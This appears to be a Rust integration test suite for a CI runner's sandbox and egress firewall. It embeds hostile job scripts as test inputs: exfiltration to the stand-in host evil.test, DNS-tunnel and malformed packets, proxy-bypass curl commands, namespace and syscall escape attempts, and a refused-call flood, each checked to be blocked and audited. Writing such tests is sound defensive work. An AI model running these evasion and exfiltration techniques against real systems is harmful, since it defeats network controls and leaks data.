        of("http", "evil.test", "deny"),
        of("connect", "evil.test", "deny"),
    ] {
        assert_eq!(event["comm"], "curl", "{event:#}");
        assert!(event["pid"].as_u64().is_some_and(|p| p > 1), "{event:#}");
    }
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    world.assert_job_left_nothing(&output);
}

#[test]
fn decisions_of_the_dns_filter_name_the_process() {
    // Lookups reach the DNS filter redirected by the fence (UDP and TCP); their events
    // name the process that asked, as the proxy's do (they had no pid or command name).
    require_privilege!();
    let (_bed, world) = allowed_test_bed();
    let job = world.job(
        "lookups.yaml",
        r#"name: lookups
steps:
  - name: look up
    run: |
      python3 - <<'PY'
      import socket
      socket.getaddrinfo("allowed.test", 443, socket.AF_INET)
      try:
          socket.getaddrinfo("evil.test", 443, socket.AF_INET)
      except socket.gaierror:
          print("EVIL-NOT-FOUND")
      PY
"#,
    );
    let (output, events) = world.run_audited(&job);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(String::from_utf8_lossy(&output.stdout).contains("EVIL-NOT-FOUND"));
    for (host, verdict) in [("allowed.test", "allow"), ("evil.test", "deny")] {
        let event = events
            .iter()
            .find(|e| e["source"] == "dns" && e["host"] == host && e["verdict"] == verdict)
            .unwrap_or_else(|| panic!("no {verdict} dns event for {host}: {events:#?}"));
        assert_eq!(event["comm"], "python3", "{event:#}");
        assert!(event["pid"].as_u64().is_some_and(|p| p > 1), "{event:#}");
    }
    world.assert_job_left_nothing(&output);
}

/// Reads the agent's stderr until it names the job; returns the job id.
fn wait_for_job_id(stderr: &mut std::process::ChildStderr) -> String {
    use std::io::Read;
    let mut seen = String::new();
    let mut byte = [0u8; 1];
    while stderr.read(&mut byte).unwrap_or(0) == 1 {
        seen.push(byte[0] as char);
        if seen.ends_with('\n') {
            if let Some(id) = job_id(&seen) {
                return id;
            }
        }
    }
    panic!("the agent never named its job: {seen}");
}

#[test]
fn killing_the_proxy_mid_job_leaves_the_runner_with_no_way_out_and_fails_the_job() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let job = world.job(
        "failclosed.yaml",
        r#"name: fail-closed
steps:
  - name: egress until the proxy dies, then try every way out
    run: |
      for i in $(seq 1 100); do curl -fsS -o /dev/null http://allowed.test/before && break; sleep 0.1; done
      # Wait until the proxy is gone (the test kills it after seeing /before).
      for i in $(seq 1 300); do curl -s -m 1 -o /dev/null http://allowed.test/probe || break; sleep 0.1; done
      leaks=0
      curl -fsS -m 3 -o /dev/null http://allowed.test/after-explicit && leaks=1
      curl -fsS -m 3 -o /dev/null --noproxy '*' http://198.51.100.10/after-direct && leaks=1
      curl -fsSk -m 3 -o /dev/null --noproxy '*' --resolve allowed.test:443:198.51.100.10 https://allowed.test/after-tls && leaks=1
      test $leaks = 0 && echo ALL-FAILED
"#,
    );
    let mut agent = world.spawn(&job);
    let mut stderr = agent.stderr.take().expect("stderr");
    let id = wait_for_job_id(&mut stderr);
    assert!(
        runner_agent_tests::agent::wait_until(Duration::from_secs(20), || bed
            .web_hits()
            .iter()
            .any(|h| h.path == "/before")),
        "the job never reached the allowed server"
    );
    let proxies = runner_agent_tests::agent::children_with(agent.id(), "__egress-proxy");
    assert_eq!(proxies.len(), 1, "expected one proxy process: {proxies:?}");
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(proxies[0] as i32),
        nix::sys::signal::Signal::SIGKILL,
    )
    .expect("kill the proxy");
    let output = agent.wait_with_output().expect("agent");
    settle();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("ALL-FAILED"), "{stdout}");
    // The job does not "succeed" with its proxy gone: it fails, and the log says why.
    let why = "the runner's proxy ended while the job ran";
    assert_eq!(output.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains(why), "{stdout}");
    let events = read_audit(&world.state_dir.join("jobs").join(&id).join("audit.jsonl"));
    assert!(
        events.iter().any(|e| e["source"] == "proxy"
            && e["verdict"] == "deny"
            && e["job"] == id.as_str()
            && e["reason"].as_str().is_some_and(|r| r.starts_with(why))),
        "{events:#?}"
    );
    let after: Vec<String> = bed
        .web_hits()
        .into_iter()
        .map(|h| h.path)
        .filter(|p| p.starts_with("/after"))
        .collect();
    assert!(
        after.is_empty(),
        "traffic got out without the proxy: {after:?}"
    );
    assert_eq!(bed.trap_hits(), vec![]);
    world.assert_left_nothing(&[id]);
}

#[test]
fn every_program_map_and_link_of_a_job_is_freed_after_it() {
    require_privilege!();
    let world = World::new("", "");
    let job = world.job("short.yaml", "name: short\nsteps:\n  - run: sleep 2\n");
    let mut agent = world.spawn(&job);
    let mut stderr = agent.stderr.take().expect("stderr");
    let id = wait_for_job_id(&mut stderr);
    let pins = std::fs::read_dir("/sys/fs/bpf/runner-agent")
        .expect("pin root")
        .flatten()
        .map(|e| e.path())
        .find(|p| p.to_string_lossy().contains(&id))
        .expect("the job's pin directory");
    let ids = egress_ebpf::pinned_ids(&pins).expect("pinned ids");
    assert!(
        !ids.programs.is_empty() && !ids.maps.is_empty() && !ids.links.is_empty(),
        "{ids:?}"
    );
    assert_eq!(
        egress_ebpf::still_loaded(&ids),
        ids,
        "all loaded while the job runs"
    );
    let status = agent.wait().expect("agent");
    assert!(status.success());
    // The kernel frees programs and maps after an RCU grace period: allow it a moment.
    let freed = runner_agent_tests::agent::wait_until(Duration::from_secs(10), || {
        let left = egress_ebpf::still_loaded(&ids);
        left.programs.is_empty() && left.maps.is_empty() && left.links.is_empty()
    });
    assert!(freed, "still loaded: {:?}", egress_ebpf::still_loaded(&ids));
    world.assert_left_nothing(&[id]);
}

#[test]
fn privilege_attacks_are_refused_and_audited() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let trap = TRAP_IPS[0];
    // Each attack must fail; the last line proves the script ran to the end.
    let job = world.job(
        "privilege.yaml",
        &format!(
            r#"name: privilege
steps:
  - name: escape attempts as root inside
    run: |
      set +e
      unshare -U true && echo LEAK-userns
      unshare -n sh -c 'ip link' && echo LEAK-netns
      unshare -m true && echo LEAK-mountns
      mount -t tmpfs none /mnt && echo LEAK-mount
      python3 - <<'PY'
      import ctypes, os
      libc = ctypes.CDLL(None, use_errno=True)
      for name, nr in (("bpf", 321), ("perf_event_open", 298), ("finit_module", 313), ("kexec_load", 246)):
          if libc.syscall(nr, 0, 0, 0, 0, 0) != -1:
              print("LEAK-" + name)
      PY
      # A connection to the trap is redirected to the proxy (which refuses it): the
      # connect succeeds, but the trap must see nothing.
      python3 -c "import socket; s = socket.create_connection(('{trap}', 5432), timeout=2); s.sendall(b'x'); s.recv(10)" 2>/dev/null
      echo ATTEMPTS-DONE
"#
        ),
    );
    let (output, events) = world.run_audited(&job);
    settle();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(stdout.contains("ATTEMPTS-DONE"), "{}", describe(&output));
    assert!(!stdout.contains("LEAK"), "{}", describe(&output));
    assert_eq!(bed.trap_hits(), vec![], "something reached a trap");
    for call in [
        "unshare(CLONE_NEWUSER)",
        "unshare(CLONE_NEWNET)",
        "unshare(CLONE_NEWNS)",
        "mount()",
        "bpf()",
        "perf_event_open()",
        "finit_module()",
        "kexec_load()",
    ] {
        let found =
            seccomp_denials(&events, &format!("{call} refused")).any(|e| e["comm"].is_string());
        assert!(found, "no deny event for {call}: {events:#?}");
    }
    world.assert_job_left_nothing(&output);
}

const QUIET_ATTEMPTS: &str = r#"
import socket, struct, sys, time
t0, t1, t6 = sys.argv[1], sys.argv[2], sys.argv[3]
def tcp(name, family, addr, payload, linger=0.3):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        print("CONNECTED", name, flush=True)
        if payload:
            s.sendall(payload)
        time.sleep(linger)
    except OSError as e:
        print("refused", name, e, flush=True)
    finally:
        s.close()
def udp(name, family, addr, payload, opts=()):
    s = socket.socket(family, socket.SOCK_DGRAM)
    for level, opt, val in opts:
        s.setsockopt(level, opt, val)
    try:
        s.sendto(payload, addr)
        print("SENT", name, flush=True)
    except OSError as e:
        print("refused", name, e, flush=True)
    finally:
        s.close()
# 1-2: connect and close without a byte (a port scan, a timing channel).
tcp("tcp-silent-5432", socket.AF_INET, (t0, 5432), b"")
tcp("tcp-silent-443", socket.AF_INET, (t0, 443), b"")
# 3: not TLS on 443.
tcp("tcp-garbage-443", socket.AF_INET, (t1, 443), b"\x00\x01NOT-TLS-EXFIL\r\n")
# 4: half an HTTP request, then close.
tcp("tcp-partial-http-5432", socket.AF_INET, (t1, 5432), b"GET /exfil HTTP/1.1\r\nHost: evil.test\r\n")
# 5: a TLS record header that announces more than is sent, then close.
tcp("tcp-short-tls-8443", socket.AF_INET, (t1, 8443), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
# 6: TCP fast open: data in the SYN.
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    s.sendto(b"TFO-EXFIL", 0x20000000, (t0, 8080))
    print("SENT tfo-8080", flush=True)
    s.close()
except OSError as e:
    print("refused tfo-8080", e, flush=True)
# 7: garbage (not DNS) to port 53.
udp("udp-garbage-53", socket.AF_INET, (t0, 53), b"NOT-DNS-EXFIL-DATA")
# 8: a DNS *response* to port 53, naming an exfiltration name.
name = b"".join(bytes([len(p)]) + p for p in b"resp.exfil.evil.test".split(b"."))
resp = b"\xab\xcd\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01" + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\x01\x02\x03\x04"
udp("udp-dns-response-53", socket.AF_INET, (t1, 53), resp)
# 9: a DNS query with two questions, the second an exfiltration name.
q1 = b"\x07allowed\x04test\x00\x00\x01\x00\x01"
q2 = b"".join(bytes([len(p)]) + p for p in b"second.exfil.evil.test".split(b".")) + b"\x00\x00\x01\x00\x01"
udp("udp-dns-two-questions-53", socket.AF_INET, (t0, 53), b"\x11\x11\x01\x00\x00\x02\x00\x00\x00\x00\x00\x00" + q1 + q2)
# 10: no question at all, data in an additional record.
udp("udp-dns-no-question-53", socket.AF_INET, (t1, 53), b"\x22\x22\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01" + b"\x00\x00\x10\x00\x01\x00\x00\x00\x00\x00\x05EXFIL")
# 11: IPv6 UDP, IPv4-mapped UDP.
udp("udp6-9999", socket.AF_INET6, (t6, 9999), b"exfil6")
udp("udp6-mapped-9998", socket.AF_INET6, ("::ffff:" + t0, 9998), b"exfil-mapped")
# 12: broadcast and multicast.
udp("udp-broadcast-9997", socket.AF_INET, ("255.255.255.255", 9997), b"bcast", [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
udp("udp-multicast-5353", socket.AF_INET, ("224.0.0.251", 5353), b"mcast")
# 13: DNS over TCP with a length prefix that lies, then close.
tcp("tcp-dns-bad-length-53", socket.AF_INET, (t1, 53), b"\xff\xffEXFIL-IN-DNS-TCP")
# 13b: DNS over TCP: connect and close without a byte.
tcp("tcp-dns-silent-53", socket.AF_INET, (t0, 53), b"")
# 14: IPv6 TCP to the trap's v6 address on a non-web port.
tcp("tcp6-5432", socket.AF_INET6, (t6, 5432), b"exfil")
"#;

/// Attempts that are refused or dropped must each leave an audit event naming the
/// destination (ip and port) and the process (pid and comm): quiet connects, non-TLS on
/// 443, half requests, TCP fast open, non-DNS and odd DNS on 53 (a response, two
/// questions, none, a lying TCP length, a TCP connection closed without a message), IPv6,
/// broadcast, multicast. Found by an attack run: the DNS filter's events for messages
/// without a readable name had neither destination nor, over TCP, process, a silent TCP
/// connection to :53 left no event, and a second question's name was in no event.
#[test]
fn quiet_and_malformed_attempts_are_audited_with_destination_and_process() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let (t0, t1) = (TRAP_IPS[0], TRAP_IPS[1]);
    let t6 = runner_agent_tests::netbed::TRAP6_IP;
    let (output, events) = world.run_python_audited(
        "quiet",
        "quiet attempts",
        "",
        &format!("{t0} {t1} {t6}"),
        QUIET_ATTEMPTS,
    );
    std::thread::sleep(Duration::from_millis(500));
    println!("{}", describe(&output));
    for e in &events {
        println!("EVENT {e}");
    }
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    let mut problems = Vec::new();
    let hits = bed.trap_hits();
    if !hits.is_empty() {
        problems.push(format!("reached a trap: {hits:?}"));
    }
    let leaked: Vec<_> = bed
        .dns_hits()
        .into_iter()
        .filter(|h| h.name.contains("evil"))
        .collect();
    if !leaked.is_empty() {
        problems.push(format!(
            "exfiltration names reached the DNS server: {leaked:?}"
        ));
    }
    let expect: &[(&str, String, u16)] = &[
        ("tcp-silent-5432", t0.to_string(), 5432),
        ("tcp-silent-443", t0.to_string(), 443),
        ("tcp-garbage-443", t1.to_string(), 443),
        ("tcp-partial-http-5432", t1.to_string(), 5432),
        ("tcp-short-tls-8443", t1.to_string(), 8443),
        ("tfo-8080", t0.to_string(), 8080),
        ("udp-garbage-53", t0.to_string(), 53),
        ("udp-dns-response-53", t1.to_string(), 53),
        ("udp-dns-no-question-53", t1.to_string(), 53),
        ("udp6-9999", t6.to_string(), 9999),
        ("udp6-mapped-9998", t0.to_string(), 9998),
        ("udp-broadcast-9997", "255.255.255.255".to_string(), 9997),
        ("udp-multicast-5353", "224.0.0.251".to_string(), 5353),
        ("tcp-dns-bad-length-53", t1.to_string(), 53),
        ("tcp-dns-silent-53", t0.to_string(), 53),
        ("tcp6-5432", t6.to_string(), 5432),
    ];
    for (name, ip, port) in expect {
        let mapped = format!("::ffff:{ip}");
        let found = events
            .iter()
            .any(|e| (e["ip"] == ip.as_str() || e["ip"] == mapped.as_str()) && e["port"] == *port);
        if !found {
            problems.push(format!("no audit event for {name} ({ip}:{port})"));
        }
    }
    if !events.iter().any(|e| {
        e["reason"]
            .as_str()
            .is_some_and(|r| r.contains("2 questions") && r.contains("second.exfil.evil.test"))
    }) {
        problems.push("no audit event names the second question's exfiltration name".into());
    }
    for e in &events {
        if e["source"] == "proxy" && e["reason"].as_str().is_some_and(|r| r.contains("ended")) {
            continue;
        }
        // Packets the runner's kernel sends by itself (ICMP errors) have no process.
        if e["kind"] == "packet" && e["port"].is_null() {
            continue;
        }
        if !(e["pid"].is_number() && e["comm"].is_string()) {
            problems.push(format!("event without pid/comm: {e}"));
        }
        if e["verdict"] == "deny" && e["ip"].is_null() && e["host"].is_null() {
            problems.push(format!("deny event without destination: {e}"));
        }
    }
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

/// Host config: `allowed.test` for environment `wide`, nothing for `default`.
fn two_env_config() -> String {
    format!(
        "network:\n  upstream_dns: [{DNS_IP}]\nenvironments:\n  default:\n    egress: {{ mode: enforce, allow: [] }}\n  wide:\n    egress:\n      mode: enforce\n      allow:\n        - host: allowed.test\n        - host: \"*.allowed.test\"\n"
    )
}

/// A job of an environment that may reach nothing tries to use the proxies and the
/// addresses of a concurrent runner whose environment allows `allowed.test`: every other
/// runner's host side (its proxy's explicit, transparent and DNS listeners) and the runner
/// itself.
#[test]
fn a_runner_cannot_use_the_proxy_or_address_of_a_concurrent_runner() {
    require_privilege!();
    let bed = NetBed::new().expect("net bed");
    let world = World::in_netns(bed.host_ns(), "max_concurrent: 4", &two_env_config());
    let tag = format!("ra-beside-{}", std::process::id());
    let wide = world.job(
        "wide.yaml",
        &format!(
            r#"name: wide
environment: wide
steps:
  - name: hold
    run: |
      curl -fsS -m 5 http://allowed.test/wide-{tag} >/dev/null && echo WIDE-OK
      python3 - <<'PY'
      import socket
      s = socket.socket()
      s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
      s.bind(("0.0.0.0", 7777))
      s.listen(5)
      s.settimeout(12)
      try:
          c, _ = s.accept()
          print("WIDE-ACCEPTED", flush=True)
      except OSError:
          pass
      PY
"#
        ),
    );
    let narrow = world.job(
        "narrow.yaml",
        &format!(
            r#"name: narrow
steps:
  - name: use the neighbour's proxy
    run: |
      set +e
      sleep 3
      mine=$(awk '/^nameserver/ {{print $2}}' /etc/resolv.conf)
      echo "MY-HOST-SIDE $mine"
      prefix=${{mine%.*}}
      for last in 1 5 9 13 2 6 10 14; do
        ip="$prefix.$last"
        [ "$ip" = "$mine" ] && continue
        for port in 3128 3080 3443 3053; do
          code=$(curl -s -m 3 -o /dev/null -w '%{{http_code}}' -x "http://$ip:$port" "http://allowed.test/narrow-{tag}" 2>&1)
          [ "$code" = 200 ] && echo "NEIGHBOUR-PROXY-ANSWERED $ip:$port"
          echo "tried $ip:$port -> $code"
        done
        python3 - "$ip" <<'PY'
      import socket, sys
      ip = sys.argv[1]
      for port in (7777, 22):
          s = socket.socket(); s.settimeout(2)
          try:
              s.connect((ip, port)); s.sendall(b"hi\r\n\r\n")
              data = s.recv(64)
              print("tcp", ip, port, "connected", data, flush=True)
          except OSError as e:
              print("tcp", ip, port, "refused", e, flush=True)
          s.close()
      # DNS straight to the neighbour's DNS filter, for a name only it allows.
      q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07allowed\x04test\x00\x00\x01\x00\x01"
      u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
      try:
          u.sendto(q, (ip, 3053)); r, _ = u.recvfrom(512)
          if (r[3] & 15) == 0 and r[7] > 0:
              print("NEIGHBOUR-DNS-ANSWERED", ip, flush=True)
      except OSError as e:
          print("dns", ip, "refused", e, flush=True)
      PY
      done
      curl -fsS -m 3 http://allowed.test/own-{tag} >/dev/null && echo "OWN-PROXY-ALLOWED-IT"
      true
"#
        ),
    );
    let wide_child = world.spawn(&wide);
    std::thread::sleep(Duration::from_millis(1500));
    let (out, events) = world.run_audited(&narrow);
    let wide_out = wide_child.wait_with_output().unwrap();
    println!("{}", describe(&out));
    println!("WIDE:\n{}", describe(&wide_out));
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let wide_stdout = String::from_utf8_lossy(&wide_out.stdout).into_owned();
    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
    assert!(
        wide_stdout.contains("WIDE-OK"),
        "the wide job did not work: {}",
        describe(&wide_out)
    );
    let mut problems = Vec::new();
    for line in stdout.lines() {
        if line.starts_with("NEIGHBOUR-") || line.starts_with("OWN-PROXY-ALLOWED") {
            problems.push(line.to_owned());
        }
    }
    if wide_stdout.contains("WIDE-ACCEPTED") {
        problems.push("the wide runner accepted a connection from the narrow one".into());
    }
    let web = bed.web_hits();
    for hit in web.iter().filter(|h| {
        h.path.contains(&format!("narrow-{tag}")) || h.path.contains(&format!("own-{tag}"))
    }) {
        problems.push(format!(
            "the narrow job's request reached the web server: {hit:?}"
        ));
    }
    // Each kind of attempt is in the narrow job's log as a denial.
    let mut denied = |what: &str, check: &dyn Fn(&serde_json::Value) -> bool| {
        if !events.iter().any(|e| e["verdict"] == "deny" && check(e)) {
            problems.push(format!("no deny event for {what}"));
        }
    };
    denied("the requests through the neighbours' proxies", &|e| {
        e["host"] == "allowed.test" && e["pid"].is_number()
    });
    denied("the connections to the neighbours' port 7777", &|e| {
        e["port"] == 7777 && e["pid"].is_number()
    });
    denied("the DNS questions to the neighbours' filters", &|e| {
        e["port"] == 3053 && e["pid"].is_number()
    });
    assert!(problems.is_empty(), "holes:\n{}", problems.join("\n"));
}

/// Uploads still going when the job ends: a background process trickles a POST to an
/// allowed host through a transparent TLS tunnel, a CONNECT tunnel and the explicit
/// proxy, and the step returns while they run.
const OPEN_AT_THE_END: &str = r#"
import os, socket, ssl, threading, time
proxy = os.environ["HTTP_PROXY"].split("://", 1)[1].rstrip("/")
host, port = proxy.rsplit(":", 1)
explicit = (host, int(port))
def trickle(stream, marker):
    stream.sendall(b"POST /open-" + marker + b" HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 100000000\r\n\r\n")
    while True:
        stream.sendall(marker[:1] * 65536)
        time.sleep(0.05)
def tls():
    s = socket.create_connection(("allowed.test", 443), timeout=5)
    trickle(ssl._create_unverified_context().wrap_socket(s, server_hostname="allowed.test"), b"tls")
def connect():
    s = socket.create_connection(explicit, timeout=5)
    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    trickle(ssl._create_unverified_context().wrap_socket(s, server_hostname="allowed.test"), b"connect")
def plain():
    s = socket.create_connection(explicit, timeout=5)
    s.sendall(b"POST http://allowed.test/open-explicit HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 100000000\r\n\r\n")
    while True:
        s.sendall(b"e" * 65536)
        time.sleep(0.05)
for f in (tls, connect, plain):
    threading.Thread(target=f, daemon=True).start()
time.sleep(600)
"#;

/// A connection still open when the job ends is recorded when the runner's proxy stops,
/// with what went through it: a job that kept tunnels to an allowed host open to its end
/// (a background uploader) left no event of them at all (found by an attack run).
#[test]
fn connections_open_at_the_end_of_the_job_are_recorded() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let job = world.job(
        "open.yaml",
        &format!(
            "name: open\nsteps:\n  - name: upload in the background\n    run: |\n      cat > /workspace/up.py <<'PY'\n{}\n      PY\n      setsid python3 /workspace/up.py >/dev/null 2>&1 </dev/null &\n      sleep 3\n",
            indent(OPEN_AT_THE_END, 6)
        ),
    );
    let (output, events) = world.run_audited(&job);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    let paths: Vec<String> = bed.web_hits().into_iter().map(|h| h.path).collect();
    for (kind, path) in [("tls", "/open-tls"), ("connect", "/open-connect")] {
        assert!(
            paths.iter().any(|p| p == path),
            "{path} never reached the server: {paths:?}"
        );
        let recorded = events
            .iter()
            .find(|e| e["kind"] == kind && e["verdict"] == "allow" && e["host"] == "allowed.test");
        let Some(event) = recorded else {
            panic!("no {kind} event for the open tunnel: {events:#?}");
        };
        assert_eq!(
            event["reason"], "still open when the proxy stopped",
            "{event}"
        );
        assert!(event["bytes_up"].as_u64().unwrap_or(0) > 65536, "{event}");
        assert!(
            event["pid"].is_number() && event["comm"] == "python3",
            "{event}"
        );
    }
    assert!(paths.iter().any(|p| p == "/open-explicit"), "{paths:?}");
    assert!(
        events
            .iter()
            .any(|e| e["path"] == "/open-explicit" && e["verdict"] == "allow"),
        "{events:#?}"
    );
}

/// The sandbox init's resource limits are out of the job's reach. A job process has init's
/// credentials inside the user namespace, which is all prlimit(2) asks; a job that lowered
/// init's descriptor limit had its next step start with init's control socket as stdin
/// (the step's open of /dev/null failed), forged init's messages into the audit log and
/// made the agent buffer one endless line; with the limit at 0, refusals lost their
/// process name (found by an attack run). prlimit on pid 1 is now refused and recorded.
#[test]
fn the_init_s_limits_are_out_of_the_jobs_reach() {
    require_privilege!();
    let world = World::new("", "");
    let job = world.job(
        "init-limits.yaml",
        r#"name: init-limits
steps:
  - name: lower init's descriptor limit
    run: |
      python3 - <<'PY'
      import ctypes, resource
      libc = ctypes.CDLL(None, use_errno=True)
      for limit in (4, 0):
          try:
              resource.prlimit(1, resource.RLIMIT_NOFILE, (limit, limit))
              print("LOWERED", limit, flush=True)
          except OSError as e:
              print("PRLIMIT-REFUSED", e.errno, flush=True)
      print("OWN", resource.prlimit(0, resource.RLIMIT_NOFILE), flush=True)
      libc.syscall(321, 0, 0, 0)  # bpf(2): refused, and named
      PY
  - name: what stdin is
    run: |
      echo "STDIN-IS $(readlink /proc/$$/fd/0)"
"#,
    );
    let (output, events) = world.run_audited(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
    assert!(!stdout.contains("LOWERED"), "{}", describe(&output));
    assert_eq!(
        stdout
            .matches(&format!("PRLIMIT-REFUSED {}", libc::EPERM))
            .count(),
        2,
        "{}",
        describe(&output)
    );
    assert!(
        stdout.contains("OWN ("),
        "own limits unreadable: {}",
        describe(&output)
    );
    assert!(
        stdout.contains("STDIN-IS /dev/null"),
        "{}",
        describe(&output)
    );
    let refused: Vec<_> = seccomp_denials(&events, "prlimit64(pid 1)").collect();
    assert_eq!(refused.len(), 2, "{events:#?}");
    for event in refused
        .iter()
        .chain(seccomp_denials(&events, "bpf()").collect::<Vec<_>>().iter())
    {
        assert_eq!(event["comm"], "python3", "{event}");
        assert!(event["pid"].is_number(), "{event}");
    }
    assert_eq!(seccomp_denials(&events, "bpf()").count(), 1, "{events:#?}");
}

/// The agent's peak resident memory (VmHWM, KiB) while `child` runs, and its output.
fn peak_memory_while(mut child: std::process::Child) -> (u64, std::process::Output) {
    let pid = child.id();
    let mut peak = 0;
    while child.try_wait().expect("wait").is_none() {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let hwm = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok());
        peak = peak.max(hwm.unwrap_or(0));
        std::thread::sleep(Duration::from_millis(20));
    }
    (peak, child.wait_with_output().expect("output"))
}

/// Calls the seccomp filter refuses, from 32 processes at once, as fast as they go: each
/// is recorded (with its process) at the pace the job makes them, and the job is stopped
/// at its audit budget. The agent's memory, outside every limit of the runner, stays
/// small: the refusals waited in an unbounded queue, recorded at a fraction of the pace
/// they came (each looked up every process of the runner), and one such job grew the
/// agent past 250 MiB and was stopped only after its step ended (found by an attack run).
#[test]
fn a_flood_of_refused_calls_is_recorded_at_its_pace_and_stopped_at_the_budget() {
    require_privilege!();
    let world = World::new("limits: { audit_log: 16MiB, pids: 512 }", "");
    let job = world.job(
        "refusals.yaml",
        r#"name: refusals
steps:
  - name: flood
    run: |
      for i in $(seq 32); do
        python3 -c '
      import socket, time
      end = time.time() + 60
      while time.time() < end:
          try:
              socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
          except OSError:
              pass
      ' &
      done
      wait
      echo FLOOD-RAN-OUT
  - name: never runs
    run: echo SHOULD-NOT-RUN
"#,
    );
    let audit = world.state_dir.join("refusals.jsonl");
    let child = world.spawn_with(&job, &["--audit-log", &audit.to_string_lossy()]);
    let (peak_kib, output) = peak_memory_while(child);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{}", describe(&output));
    assert!(
        stdout.contains("stopped: its audit events reached limits.audit_log (16MiB)"),
        "{}",
        describe(&output)
    );
    assert!(!stdout.contains("FLOOD-RAN-OUT"), "{}", describe(&output));
    assert!(
        !stdout.contains("SHOULD-NOT-RUN\n"),
        "{}",
        describe(&output)
    );
    assert!(
        peak_kib < 96 * 1024,
        "the agent grew to {} MiB",
        peak_kib / 1024
    );
    let events = read_audit(&audit);
    let refusals: Vec<_> = seccomp_denials(&events, "socket(AF_PACKET, SOCK_RAW)").collect();
    assert!(
        refusals.len() > 10_000,
        "{} refusals recorded",
        refusals.len()
    );
    // Refusals name their process by host pid (init finds it while the caller waits in
    // the call), consistently: one host pid for each pid inside, and the other way round,
    // one per flooding process.
    let mut host_of_inner = std::collections::BTreeMap::new();
    let mut no_pid = 0;
    for event in &refusals {
        assert_eq!(event["comm"], "python3", "{event}");
        // A process killed at the budget while waiting in a refused call has no host pid
        // left to name: at most one per flooding process.
        let Some(host) = event["pid"].as_u64() else {
            no_pid += 1;
            continue;
        };
        let reason = event["reason"].as_str().unwrap_or_default();
        let inner = reason
            .split("(pid ")
            .nth(1)
            .and_then(|rest| rest.split_whitespace().next())
            .unwrap_or_else(|| panic!("no pid inside: {event}"))
            .to_owned();
        // Numbered as the host numbers it, not as the sandbox does.
        assert_ne!(inner, host.to_string(), "{event}");
        let known = host_of_inner.entry(inner).or_insert(host);
        assert_eq!(*known, host, "two host pids for one process: {event}");
    }
    let hosts: std::collections::BTreeSet<_> = host_of_inner.values().collect();
    assert_eq!(hosts.len(), host_of_inner.len(), "{host_of_inner:?}");
    assert_eq!(host_of_inner.len(), 32, "{host_of_inner:?}");
    assert!(no_pid <= 32, "{no_pid} refusals name no process");
    world.assert_job_left_nothing(&output);
}
